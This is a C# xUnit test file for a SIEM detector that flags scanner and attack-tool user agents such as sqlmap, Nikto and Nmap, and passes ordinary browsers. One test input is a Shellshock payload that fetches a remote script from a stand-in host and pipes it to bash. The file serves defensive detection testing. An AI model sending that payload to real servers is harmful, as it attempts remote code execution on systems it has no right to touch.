using SiemActors.Domain.Events;
using SiemActors.Domain.Features;
using Xunit;

namespace SiemActors.Domain.Tests.Features;

public sealed class SuspiciousUserAgentTests
{
    private static LogEvent Web(string? agent) => new()
    {
        Timestamp = DateTimeOffset.UnixEpoch, Source = SourceKind.Nginx, Category = EventCategory.Web, UserAgent = agent,
    };

    [Theory]
    [InlineData("sqlmap/1.7.2#stable (https://sqlmap.org)", true)]
    [InlineData("Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:Port Check)", true)]
    [InlineData("Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", true)]
    [InlineData("() { :; }; /bin/bash -c 'curl http://x/y | sh'", true)]
    [InlineData("PYTHON-REQUESTS/2.31.0", true)]
    [InlineData("curl/8.4.0", true)]
    [InlineData("", true)]
    [InlineData(null, true)]
    [InlineData("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36", false)]
    [InlineData("Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 Version/17.1 Mobile/15E148 Safari/604.1", false)]
    [InlineData("Wget-less monitoring agent", false)]
    public void Scanner_and_tool_agents_are_flagged_case_insensitively(string? agent, bool suspicious) =>
        Assert.Equal(suspicious, SuspiciousUserAgents.IsSuspicious(Web(agent)));

    [Fact]
    public void Only_web_events_are_judged_by_their_agent() =>
        Assert.False(SuspiciousUserAgents.IsSuspicious(Web("sqlmap") with { Category = EventCategory.Authentication }));
}
